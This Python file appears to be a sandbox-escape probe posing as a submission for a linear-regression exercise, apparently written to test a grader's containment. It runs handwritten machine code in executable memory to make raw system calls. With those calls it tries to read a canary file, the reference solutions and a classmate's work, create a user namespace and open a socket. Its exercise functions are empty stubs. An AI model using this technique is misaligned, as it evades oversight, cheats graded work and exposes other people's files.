# tries: to make system calls from machine code of its own, in pages it made executable
# exercise: linear_regression
import ctypes
import mmap
import os
import platform

ARM = platform.machine() == "aarch64"
# rax, rdi, rsi, rdx = rdi, rsi, rdx, rcx; syscall; ret  (or x8, x0, x1, x2 = x0, x1, x2, x3)
CODE = bytes.fromhex(
    "e80300aa e00301aa e10302aa e20303aa 010000d4 c0035fd6"
    if ARM
    else "4889f8 4889f7 4889d6 4889ca 0f05 c3"
)
OPENAT, SOCKET, UNSHARE = (56, 198, 97) if ARM else (257, 41, 272)
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
page = mmap.mmap(-1, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(
    ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_char_p, ctypes.c_long
)(address)
for path in (b"@CANARY@", b"@SOLUTIONS@/solution.py", b"@CLASSMATE@"):
    number = call(OPENAT, -100, path, 0)
    if number >= 0:
        print("ESCAPED:", os.read(number, 4096))
if call(UNSHARE, 0x10000000, None, 0) == 0:
    print("ESCAPED: made a user namespace")
if call(SOCKET, 2, ctypes.c_char_p(1), 0) >= 0:
    print("ESCAPED: made a socket")


def compute_loss(*arguments):
    return None


def train_parameters_linear_regression(*arguments, **keywords):
    return None
